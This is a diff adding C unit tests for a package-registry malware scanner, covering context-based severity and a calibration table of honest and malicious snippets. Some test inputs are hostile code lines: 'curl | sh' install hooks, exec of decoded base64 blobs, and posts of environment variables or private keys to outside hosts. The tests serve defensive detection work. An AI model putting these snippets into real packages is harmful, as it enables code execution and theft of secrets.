@@ -78,7 +78,7 @@ Test(scanner, lines_unless_and_near_windows)
         "\n\n\n"                       /* 7-9 */
         "sock.send(data)\n"            /* 10: too far */
         "requests.post(u)\n"           /* 11: token is in the file */
-        "# token\n";
+        "t = token()\n";
     struct scan_result *r = scan_one(rs, ECO_PYPI, "pkg/mod.py", text);
     cr_assert_not_null(find_hit(r, "t-eval", 2));
     cr_assert_null(find_hit(r, "t-eval", 3));
@@ -438,4 +438,247 @@ Test(scanner, guesses_the_ecosystem)
     cr_assert_eq(scanner_guess_ecosystem(both, 2), ECO_UNKNOWN);
     cr_assert_str_eq(scanner_problem_rule(ARCHIVE_PROBLEM_DOTDOT), "archive-path-traversal");
     cr_assert_eq(scanner_problem_severity(ARCHIVE_PROBLEM_COUNT), SCAN_SEV_MEDIUM);
+}
+
+/* ---- lexical views and context ------------------------------------------ */
+
+static const char ctx_rules[] =
+    "[[rule]]\nid='c-net'\nseverity='high'\nruntime_severity='low'\n"
+    "files=['*.py','*.js','package.json']\npatterns=['\\bfetch\\(', 'pastebin']\nmessage='net'\n"
+    "[[rule]]\nid='c-bare'\nseverity='high'\nview='bare'\nfiles=['*.js']\n"
+    "patterns=['\\bsecret\\b']\nmessage='bare'\n"
+    "[[rule]]\nid='c-raw'\nseverity='medium'\nview='raw'\nfiles=['*.js']\n"
+    "patterns=['TODO']\nmessage='raw'\n"
+    "[[rule]]\nid='c-pyc'\nseverity='low'\nbinaries=['pyc']\nmessage='pyc'\n";
+
+static struct rule_set *rules_ctx(void)
+{
+    struct rule_set *rs = rules_new();
+    struct diag d;
+    diag_clear(&d);
+    cr_assert(rules_add(rs, ctx_rules, strlen(ctx_rules), "c.toml", &d), "%s", d.msg);
+    cr_assert(rules_finish(rs, &d));
+    return rs;
+}
+
+Test(scanner, comments_are_not_code_and_views_are_per_rule)
+{
+    struct rule_set *rs = rules_ctx();
+    struct scan_result *r = scan_one(rs, ECO_NPM, "package/lib/a.js",
+                                     "// see https://pastebin.com/x and fetch(u) TODO\n"
+                                     "const s = 'secret';\n"
+                                     "fetch(u); secret();\n");
+    cr_assert_null(find_hit(r, "c-net", 1), "a comment is not code");
+    cr_assert_not_null(find_hit(r, "c-net", 3));
+    cr_assert_null(find_hit(r, "c-bare", 2), "string contents only for rules that ask");
+    cr_assert_not_null(find_hit(r, "c-bare", 3));
+    cr_assert_not_null(find_hit(r, "c-raw", 1), "view = raw sees comments");
+    cr_assert_str_eq(find_hit(r, "c-net", 3)->excerpt, "fetch(u); secret();");
+    scanner_result_free(r);
+    rules_free(rs);
+}
+
+Test(scanner, unreadable_source_falls_back_to_lines_and_says_so)
+{
+    struct rule_set *rs = rules_ctx();
+    struct scan_result *r = scan_one(rs, ECO_NPM, "package/lib/a.js",
+                                     "// fetch(a)\nvar s = 'open\n");
+    const struct scan_hit *h = find_hit(r, "c-net", 1);
+    cr_assert_not_null(h, "plain line matching, as before the lexer");
+    cr_assert(strstr(h->message, "not read as JavaScript: unterminated string at line 2"),
+              "%s", h->message);
+    scanner_result_free(r);
+    rules_free(rs);
+}
+
+Test(scanner, context_decides_severity)
+{
+    struct rule_set *rs = rules_ctx();
+    const char *init = "fetch(a)\n"                  /* 1: runs on import */
+                       "def f():\n"
+                       "    fetch(b)\n";             /* 3: runs when called */
+    struct scan_result *r = scan_one(rs, ECO_PYPI, "pkg-1.0/pkg/__init__.py", init);
+    cr_assert_eq(find_hit(r, "c-net", 1)->severity, SCAN_SEV_HIGH);
+    cr_assert_eq(find_hit(r, "c-net", 3)->severity, SCAN_SEV_LOW);
+    scanner_result_free(r);
+    r = scan_one(rs, ECO_PYPI, "pkg-1.0/pkg/client.py", init);
+    cr_assert_eq(find_hit(r, "c-net", 1)->severity, SCAN_SEV_LOW, "library code");
+    scanner_result_free(r);
+    r = scan_one(rs, ECO_PYPI, "pkg-1.0/setup.py", init);
+    cr_assert_eq(find_hit(r, "c-net", 3)->severity, SCAN_SEV_HIGH, "all of setup.py");
+    scanner_result_free(r);
+    rules_free(rs);
+}
+
+Test(scanner, files_run_by_install_scripts_are_install_time)
+{
+    struct rule_set *rs = rules_ctx();
+    const char *pkg = "{\"scripts\":{\"postinstall\":\"node scripts/setup && node -e "
+                      "\\\"require('./lib/hook')\\\"\",\"test\":\"node t.js\"}}";
+    struct scanner *sc = scanner_new(rs, ECO_NPM);
+    scanner_package_json(sc, "package/package.json", pkg, strlen(pkg));
+    const char *names[] = {"package/scripts/setup.js", "package/lib/hook.js",
+                           "package/t.js", "package/index.js"};
+    for (unsigned i = 0; i < 4; i++)
+        scanner_file(sc, names[i], "fetch(x)\n", 9);
+    struct scan_result *r = scanner_finish(sc);
+    const enum scan_severity want[] = {SCAN_SEV_HIGH, SCAN_SEV_HIGH, SCAN_SEV_LOW,
+                                       SCAN_SEV_LOW};
+    for (unsigned i = 0; i < 4; i++)
+        for (size_t k = 0; k < r->n_hits; k++)
+            if (strcmp(r->hits[k].file, names[i]) == 0)
+                cr_assert_eq(r->hits[k].severity, want[i], "%s", names[i]);
+    cr_assert_eq(r->n_hits, 4);
+    scanner_result_free(r);
+    scanner_free(sc);
+    rules_free(rs);
+}
+
+Test(scanner, bundles_are_summarised_and_compiled_files_counted)
+{
+    struct rule_set *rs = rules_ctx();
+    struct scanner *sc = scanner_new(rs, ECO_NPM);
+    const char *calls = "fetch(a)\nfetch(b)\nfetch(c)\n";
+    scanner_file(sc, "package/dist/index.js", calls, strlen(calls));
+    scanner_file(sc, "package/x.min.js", calls, strlen(calls));
+    /* One 20 kB line of code is a bundle wherever it sits. */
+    char *line = malloc(20001);
+    memset(line, ';', 20000);
+    memcpy(line + 100, "fetch(q)", 8);
+    line[20000] = '\0';
+    scanner_file(sc, "package/lib/big.js", line, 20000);
+    free(line);
+    unsigned char pyc[32] = {0x55, 0x0d, 0x0d, 0x0a};
+    for (unsigned i = 0; i < 3; i++)
+        scanner_file(sc, i ? "pkg/__pycache__/b.cpython-311.pyc" : "pkg/__pycache__/a.pyc",
+                     pyc, sizeof(pyc));
+    struct scan_result *r = scanner_finish(sc);
+    unsigned summaries = 0, pycs = 0;
+    for (size_t k = 0; k < r->n_hits; k++) {
+        cr_assert_str_neq(r->hits[k].rule, "c-net", "context rules are summarised");
+        if (strcmp(r->hits[k].rule, "generated-file") == 0) {
+            summaries++;
+            cr_assert_eq(r->hits[k].severity, SCAN_SEV_LOW);
+        }
+        if (strcmp(r->hits[k].rule, "c-pyc") == 0) {
+            pycs++;
+            cr_assert(strstr(r->hits[k].excerpt, "3 such files"), "%s", r->hits[k].excerpt);
+        }
+    }
+    cr_assert_eq(summaries, 3);
+    cr_assert_eq(pycs, 1);
+    scanner_result_free(r);
+    scanner_free(sc);
+    rules_free(rs);
+}
+
+/* ---- the shipped rules on honest and malicious snippets ----------------- */
+
+#define NO_HIT (-1)
+
+struct calibration_case {
+    const char *path;
+    enum ecosystem eco;
+    const char *text;
+    const char *rule;
+    int severity;          /* enum scan_severity, or NO_HIT */
+};
+
+static const struct calibration_case calibration_table[] = {
+    /* Honest code the old rules flagged high or critical. */
+    {"package/package.json", ECO_NPM,
+     "{\"scripts\":{\"postinstall\":\"node -e \\\"try{require('./postinstall')}catch(e){}\\\"\"}}",
+     "npm-install-script-shell", NO_HIT},
+    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
+     "npm-install-script-node", SCAN_SEV_MEDIUM},
+    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"node install.js\"}}",
+     "npm-install-script", NO_HIT},
+    {"package/test/fixture/package.json", ECO_NPM,
+     "{\"scripts\":{\"postinstall\":\"lerna bootstrap\"}}", "test-file", SCAN_SEV_LOW},
+    {"package/lodash.js", ECO_NPM, "/** [`isNaN`](process[x]()) */\nvar a = 1;\n",
+     "npm-api-obfuscation", NO_HIT},
+    {"package/index.js", ECO_NPM, "// see https://pastebin.com/raw/x\nmodule.exports = 1;\n",
+     "exfil-endpoint", NO_HIT},
+    {"package/lib/mocha.js", ECO_NPM, "for (var opt in opts) self[opt](opts[opt]);\n",
+     "npm-api-obfuscation", NO_HIT},
+    {"package/lib/http.js", ECO_NPM,
+     "function proxy() { return process.env; }\n\n\n\n\nfunction get(u) {\n  return fetch(u);\n}\n",
+     "npm-exfil", NO_HIT},
+    {"attr/_make.py", ECO_PYPI, "def f(script):\n    bytecode = compile(script, '<x>', \"exec\")\n",
+     "py-compile-exec", SCAN_SEV_LOW},
+    {"six.py", ECO_PYPI, "exec_ = getattr(moves.builtins, \"exec\")\n", "py-api-obfuscation",
+     NO_HIT},
+    {"compat.py", ECO_PYPI, "exec_ = getattr(builtins, \"exec\")\n", "py-obfuscation", NO_HIT},
+    {"werkzeug/debug/__init__.py", ECO_PYPI, "class Console:\n    def eval(self, code):\n",
+     "py-setup-exec", NO_HIT},
+    {"pkg/__init__.py", ECO_PYPI, "import subprocess\ndef run(c):\n    subprocess.run(c)\n",
+     "py-setup-process", SCAN_SEV_LOW},
+    {"tqdm/contrib/telegram.py", ECO_PYPI, "API = 'https://api.telegram.org/bot'\n",
+     "exfil-endpoint", NO_HIT},
+    {"ssh/src/ssh.erl", ECO_HEX, "connect(H) -> gen_tcp:connect(H, 22, []).\n",
+     "hex-erlang-shell", SCAN_SEV_LOW},
+    /* What honest packages do not do keeps its severity. */
+    {"package/package.json", ECO_NPM, "{\"scripts\":{\"postinstall\":\"curl http://x | sh\"}}",
+     "npm-install-script-shell", SCAN_SEV_CRITICAL},
+    {"pkg-1.0/setup.py", ECO_PYPI, "code = compile(src, '<x>', 'exec')\n", "py-compile-exec",
+     SCAN_SEV_HIGH},
+    {"pkg/__init__.py", ECO_PYPI, "import subprocess\nsubprocess.run(['curl', u])\n",
+     "py-setup-process", SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI, "exec(base64.b64decode(blob))\n", "py-exec-decoded", SCAN_SEV_HIGH},
+    {"pkg-1.0/setup.py", ECO_PYPI, "exec(base64.b64decode(blob))\n", "py-exec-decoded",
+     SCAN_SEV_CRITICAL},
+    {"pkg/mod.py", ECO_PYPI, "getattr(os, \"system\")(\"id\")\n", "py-api-obfuscation",
+     SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI,
+     "def steal():\n    data = dict(os.environ)\n    x = 1\n    y = 2\n    z = 3\n"
+     "    requests.post(URL, json=data)\n", "py-credentials-exfil", SCAN_SEV_HIGH},
+    {"package/index.js", ECO_NPM,
+     "const d = JSON.stringify(process.env);\nhttps.request({host: h}, () => {});\n",
+     "npm-exfil", SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI, "\xf0\x9d\x9a\x8e\xf0\x9d\x9a\xa1\xf0\x9d\x9a\x8e\xf0\x9d\x9a\x8c(x)\n",
+     "unicode-lookalike-identifier", SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI, "s = '\xf0\x9d\x9a\x8e in a string'\n", "unicode-lookalike-identifier",
+     NO_HIT},
+    {"pkg/mod.py", ECO_PYPI,
+     "_ = lambda __: __import__('marshal').loads(__import__('zlib').decompress("
+     "__import__('base64').b64decode(__[::-1])))\nexec((_)(b'=AAAA'))\n",
+     "py-exec-alias", SCAN_SEV_HIGH},
+    {"pkg-1.0/setup.py", ECO_PYPI, "d = base64.b64decode(blob)\nx = 1\n\n\n\n\n\nexec(d)\n",
+     "py-exec-alias", SCAN_SEV_CRITICAL},
+    {"pkg/mod.py", ECO_PYPI, "d = base64.b64decode(blob)\nprint(d)\n", "py-exec-alias", NO_HIT},
+    {"pkg/wallet.py", ECO_PYPI,
+     "def backup(private_key, name):\n    r = requests.post('https://x.mockapi.io/k', "
+     "json={'k': private_key})\n", "py-secret-arg-exfil", SCAN_SEV_HIGH},
+    {"pkg/wallet.py", ECO_PYPI,
+     "def sign(private_key, tx):\n    sig = ecdsa(private_key, tx)\n"
+     "    requests.post(URL, json={'sig': sig})\n", "py-secret-arg-exfil", NO_HIT},
+    {"pkg/mod.py", ECO_PYPI, "blob = '==QbvRmbhNmclNXdlxWZ0VmbvRmbhNmclNXdlxWZ0Vmbv'\n",
+     "reversed-base64", SCAN_SEV_HIGH},
+    {"pkg/mod.py", ECO_PYPI, "URL = 'https://discord.com/api/webhooks/123456789/"
+     "abcdefghijklmnopqrstuvwxyz'\n", "exfil-webhook-hardcoded", SCAN_SEV_HIGH},
+};
+
+static const struct scan_hit *find_rule(const struct scan_result *r, const char *rule)
+{
+    for (size_t i = 0; i < r->n_hits; i++)
+        if (strcmp(r->hits[i].rule, rule) == 0)
+            return &r->hits[i];
+    return NULL;
+}
+
+Test(scanner, shipped_rules_calibration)
+{
+    struct rule_set *rs = rules_shipped();
+    for (size_t i = 0; i < sizeof(calibration_table) / sizeof(*calibration_table); i++) {
+        const struct calibration_case *c = &calibration_table[i];
+        struct scan_result *r = scan_one(rs, c->eco, c->path, c->text);
+        const struct scan_hit *h = find_rule(r, c->rule);
+        if (c->severity == NO_HIT)
+            cr_expect_null(h, "%s %s: %s", c->path, c->rule, h ? h->excerpt : "");
+        else
+            cr_expect_eq(h ? (int)h->severity : NO_HIT, c->severity, "%s %s: %s", c->path,
+                         c->rule, h ? rules_severity_name(h->severity) : "no hit");
+        scanner_result_free(r);
+    }
+    rules_free(rs);
 }
